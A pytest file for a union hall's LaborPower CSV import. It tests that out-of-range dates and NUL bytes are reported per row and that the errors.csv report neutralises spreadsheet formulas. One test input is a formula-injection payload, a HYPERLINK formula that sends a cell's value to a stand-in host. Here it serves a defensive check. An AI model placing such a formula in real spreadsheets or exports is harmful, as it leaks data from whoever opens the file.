"""Bad input in a LaborPower file (issue 20, findings 6 and 11): dates outside a plausible range
(12/31/9999, year 1) are the row's error, said per row, on the dry run as on the import — never a
traceback; a NUL byte anywhere in the file is found by the dry run, not by the database at the
real run; and the errors.csv a dispatcher opens in a spreadsheet runs no formula of the file."""

import csv
import datetime
import io

import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse

from dispatch.models import Dispatch
from members.models import Member, MemberTransaction
from referral.models import BookRegistration
from unioncore import imports, tasks
from unioncore.models import ImportJobStatus
from unioncore.testing import at, check_uploaded_imports
from unioncore.tests.factories import StaffFactory
from unioncore.tests.samples import UPLOAD, sample

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("media"), pytest.mark.sqlite]  # on make run's SQLite too
TODAY = datetime.date(2026, 12, 7)


@pytest.fixture(autouse=True)
def today():
    with time_machine.travel(at(TODAY, 9), tick=False):
        yield


@pytest.fixture
def as_admin(client):
    client.force_login(StaffFactory(groups=["admin"]))
    return client


@pytest.fixture
def members_in(system_user):
    assert imports.run("members", sample("members"), by=system_user).ok
    assert imports.run("employers", sample("employers"), by=system_user).ok


def replace_line(kind: str, line: int, old: str, new: str) -> bytes:
    """The sample with `old` replaced by `new` on one line (the header is line 1)."""
    lines = sample(kind).decode("utf-8-sig").splitlines(keepends=True)
    assert old in lines[line - 1], (kind, line, lines[line - 1])
    lines[line - 1] = lines[line - 1].replace(old, new, 1)
    return "".join(lines).encode()


def errors_of(report) -> list[tuple[int, str]]:
    return [(e.line, e.column) for e in report.errors]


# --- Dates ---

# (kind, line, the sample's value, its column)
DATE_CELLS = [
    ("registrations", 2, "04/12/1997", "registered"),
    ("registrations", 2, "03/01/2025", "re_signed"),
    ("dispatches", 3, "03/04/2024", "start_date"),
    ("dispatches", 3, "05/17/2024", "end_date"),
    ("ledger", 2, "01/02/2025", "date"),
]


@pytest.mark.parametrize(("kind", "line", "value", "column"), DATE_CELLS)
@pytest.mark.parametrize("bad", ["12/31/9999", "9999-12-31", "01/01/0001", "0001-01-01", "12/31/1899"])
def test_an_implausible_date_is_the_rows_error_on_the_dry_run_and_the_import(
    kind, line, value, column, bad, members_in, system_user
):
    data = replace_line(kind, line, value, bad)
    dry = imports.run(kind, data, by=system_user, dry_run=True)
    assert errors_of(dry) == [(line, column)], dry.errors
    assert "01/01/1900" in dry.errors[0].reason, dry.errors[0].reason
    real = imports.run(kind, data, by=system_user)
    assert real.errors == dry.errors
    written = BookRegistration.objects.count() + Dispatch.objects.count() + MemberTransaction.objects.count()
    assert written == 0


def test_a_registration_a_year_and_more_ahead_is_refused_an_exemption_five_years_ahead_is_not(members_in, system_user):
    ahead = "12/09/2027"  # 367 days after today
    report = imports.run("registrations", replace_line("registrations", 2, "04/12/1997", ahead), by=system_user)
    assert errors_of(report) == [(2, "registered")]
    assert "12/08/2027" in report.errors[0].reason, "the reason says the last plausible day"
    header = "card_number,book_code,apn,registered,exempt,exempt_reason,exempt_until\n"
    data = (header + "0012345,WIRE_SEA_1,45809.99,06/03/2025,Y,medical,12/31/2031\n").encode()
    report = imports.run("registrations", data, by=system_user)
    assert report.ok, report.errors
    assert BookRegistration.objects.get().exempt_until == datetime.date(2031, 12, 31)
    too_far = data.replace(b"12/31/2031", b"12/31/2099")
    report = imports.run("registrations", too_far, by=system_user, dry_run=True)
    assert errors_of(report) == [(2, "exempt_until")]


def test_the_bounds_are_a_hall_setting(members_in, system_user, settings):
    settings.PLAUSIBLE_DATES_FROM = datetime.date(2000, 1, 1)
    report = imports.run("registrations", sample("registrations"), by=system_user, dry_run=True)
    assert errors_of(report) == [(2, "registered")], "registered 04/12/1997, before the hall's first date"
    assert "01/01/2000" in report.errors[0].reason


def test_a_date_of_year_9999_through_the_admin_page_is_a_listed_row_not_a_server_error(as_admin, members_in):
    data = replace_line("dispatches", 3, "03/04/2024", "12/31/9999")
    response = as_admin.post(UPLOAD, {"kind": "dispatches", "file": SimpleUploadedFile("d.csv", data)})
    assert response.status_code == 302
    (job,) = check_uploaded_imports()
    assert [(e["line"], e["column"]) for e in job.errors] == [(3, "start_date")]
    assert "12/31/9999" in as_admin.get(reverse("admin:unioncore_importjob_change", args=[job.pk])).content.decode()


# --- NUL bytes ---


def members_file(rows: int, *, nul_on: int) -> bytes:
    header = "card_number,last_name,first_name,classification\n"
    lines = [f"{9000000 + n:07d},Member{n},Pat,inside_wireperson\n" for n in range(rows)]
    lines[nul_on - 2] = lines[nul_on - 2].replace("Pat", "P\x00at")
    return (header + "".join(lines)).encode()


def test_a_nul_byte_after_the_first_8_kb_is_found_by_the_dry_run_on_its_line(
    as_admin, django_capture_on_commit_callbacks
):
    data = members_file(400, nul_on=380)
    assert data.index(b"\x00") > 8192
    response = as_admin.post(UPLOAD, {"kind": "members", "file": SimpleUploadedFile("m.csv", data)})
    assert response.status_code == 302
    (job,) = check_uploaded_imports()
    assert [(e["line"], e["column"]) for e in job.errors] == [(380, "first_name")]
    assert "NUL" in job.errors[0]["reason"]
    assert job.status == ImportJobStatus.CHECKED
    page = as_admin.get(reverse("admin:unioncore_importjob_change", args=[job.pk])).content.decode()
    assert "Import it now" not in page
    assert not Member.objects.exists()


def test_the_import_reads_a_nul_byte_as_its_dry_run_does(system_user):
    data = members_file(400, nul_on=380)
    dry = imports.run("members", data, by=system_user, dry_run=True)
    real = imports.run("members", data, by=system_user)
    assert errors_of(dry) == errors_of(real) == [(380, "first_name")]
    assert not Member.objects.exists()


# --- errors.csv ---

FORMULA = '=HYPERLINK("http://x/?"&C3,"x")'


def test_the_errors_csv_writes_a_formula_of_the_file_as_text(as_admin, tmp_path, system_user):
    quoted = '"' + FORMULA.replace('"', '""') + '"'
    data = sample("members").replace(b"0012346", quoted.encode())
    as_admin.post(UPLOAD, {"kind": "members", "file": SimpleUploadedFile("m.csv", data)})
    (job,) = check_uploaded_imports()
    response = as_admin.get(reverse("admin:unioncore_importjob_errors", args=[job.pk]))
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [(r["column"], r["value"]) for r in rows] == [("card_number", "'" + FORMULA)]

    path, report = tmp_path / "members.csv", tmp_path / "errors.csv"
    path.write_bytes(data)
    with pytest.raises(CommandError):
        call_command("import_laborpower", "members", str(path), "--report", str(report), stderr=io.StringIO())
    assert [r["value"] for r in csv.DictReader(report.open())] == ["'" + FORMULA]


def test_a_file_without_the_nul_byte_imports(as_admin, django_capture_on_commit_callbacks):
    """The guard above changes nothing for a good file: what the dry run passed, the import writes."""
    data = members_file(400, nul_on=380).replace(b"\x00", b"")
    as_admin.post(UPLOAD, {"kind": "members", "file": SimpleUploadedFile("m.csv", data)})
    (job,) = check_uploaded_imports()
    assert job.errors == []
    with django_capture_on_commit_callbacks(execute=False):
        as_admin.post(reverse("admin:unioncore_importjob_confirm", args=[job.pk]))
    assert tasks.run_import_job(job.pk) == ImportJobStatus.DONE
    assert Member.objects.count() == 400
